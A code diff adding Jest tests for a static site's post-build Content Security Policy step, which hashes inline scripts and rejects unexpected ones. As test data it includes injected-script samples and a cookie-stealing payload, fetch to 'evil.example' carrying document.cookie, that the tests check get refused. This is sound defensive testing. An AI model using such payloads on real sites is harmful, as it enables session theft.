@@ -1,16 +1,89 @@
 /** @jest-environment node */
 import crypto from "node:crypto"
+import fs from "node:fs"
+import os from "node:os"
+import path from "node:path"
+import { HOLD_EARLY_SUBMITS_SCRIPT } from "../../src/quote/early-submit"
 import { parseHeadersFile, headersFor } from "../headers-file"
-import { contentSecurityPolicy, inlineScriptHashes } from "../post-build/security-headers"
+import { cspHash, executableInlineScripts, unexpectedInlineScripts } from "../post-build/inline-scripts"
+import { contentSecurityPolicy, securePages, withPolicyMeta } from "../post-build/security-headers"
 
 const sha = (text: string) => `'sha256-${crypto.createHash("sha256").update(text).digest("base64")}'`
 
-describe("inlineScriptHashes", () => {
-  it("hashes executable inline scripts only, not external ones or JSON-LD data blocks", () => {
+/** A built page as Gatsby writes it, with the site's own inline scripts and `extra` in its body. */
+const page = (extra = "") =>
+  `<!DOCTYPE html><html lang="en-GB"><head><meta charSet="utf-8"/><title>t</title>` +
+  `<script>${HOLD_EARLY_SUBMITS_SCRIPT}</script>` +
+  `<script type="application/ld+json">{"name":"Sparks \\u003c/script>"}</script></head><body><h1>Hi</h1>${extra}` +
+  `<script id="gatsby-script-loader">/*<![CDATA[*/window.pagePath="/";/*]]>*/</script>` +
+  `<script\n            id="gatsby-chunk-mapping"\n          >\n            window.___chunkMapping="{\\"app\\":[\\"/app-1.js\\"]}";\n          </script>` +
+  `<script>window.___webpackCompilationHash="abc123";</script>` +
+  `<script src="/webpack-runtime-1.js" async></script><script src="/app-1.js" async></script></body></html>`
+
+describe("executableInlineScripts and cspHash", () => {
+  it("finds executable inline scripts only, not external ones or JSON-LD data blocks", () => {
     const html =
       '<script id="a">window.x=1</script><script src="/app.js"></script>' +
       '<script type="application/ld+json">{"@type":"Electrician"}</script><script type="module">go()</script>'
-    expect(inlineScriptHashes(html)).toEqual([sha("window.x=1"), sha("go()")])
+    expect(executableInlineScripts(html).map(cspHash)).toEqual([sha("window.x=1"), sha("go()")])
+  })
+})
+
+describe("unexpectedInlineScripts", () => {
+  it("knows every inline script the site emits", () => {
+    expect(unexpectedInlineScripts(page())).toEqual([])
+  })
+
+  it("names a script that data smuggled into a page, e.g. a business name holding </script><script>", () => {
+    const hostile = page(`<p>Sparks</p><script>alert("x")</script>`)
+    expect(unexpectedInlineScripts(hostile)).toEqual(['alert("x")'])
+  })
+
+  it("does not accept a look-alike of a known script", () => {
+    const lookAlike = `<script>window.___webpackCompilationHash="1";alert(1)</script>`
+    expect(unexpectedInlineScripts(lookAlike)).toHaveLength(1)
+  })
+})
+
+describe("securePages", () => {
+  function site(html: string): string {
+    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "secure-pages-"))
+    fs.writeFileSync(path.join(dir, "index.html"), html)
+    return dir
+  }
+
+  it("puts each page's own policy first in its head, without frame-ancestors, and the union in _headers", () => {
+    const dir = site(page())
+    expect(securePages(dir, "https://api.emailjs.com")).toEqual([])
+    const html = fs.readFileSync(path.join(dir, "index.html"), "utf8")
+    const meta =
+      /^<!DOCTYPE html><html lang="en-GB"><head><meta http-equiv="Content-Security-Policy" content="([^"]+)"\/>/.exec(
+        html,
+      )
+    expect(meta).not.toBeNull()
+    const policy = meta![1]
+    for (const body of executableInlineScripts(html)) expect(policy).toContain(cspHash(body))
+    expect(policy).not.toContain("frame-ancestors")
+    expect(policy).not.toMatch(/unsafe-inline'[^;]*;.*script-src|script-src[^;]*unsafe/)
+    const headers = fs.readFileSync(path.join(dir, "_headers"), "utf8")
+    expect(headers).toContain("frame-ancestors 'none'")
+    for (const body of executableInlineScripts(html)) expect(headers).toContain(cspHash(body))
+  })
+
+  it("refuses a page with an unexpected inline script, and changes nothing", () => {
+    const hostile = page(`<script>fetch("https://evil.example/?c="+document.cookie)</script>`)
+    const dir = site(hostile)
+    expect(securePages(dir, "")).toEqual([{ page: "index.html", start: expect.stringContaining("evil.example") }])
+    expect(fs.readFileSync(path.join(dir, "index.html"), "utf8")).toBe(hostile)
+    expect(fs.existsSync(path.join(dir, "_headers"))).toBe(false)
+  })
+})
+
+describe("withPolicyMeta", () => {
+  it("escapes the policy for an attribute", () => {
+    expect(withPolicyMeta("<head></head>", `a "b" & c`)).toBe(
+      '<head><meta http-equiv="Content-Security-Policy" content="a &quot;b&quot; &amp; c"/></head>',
+    )
   })
 })
 
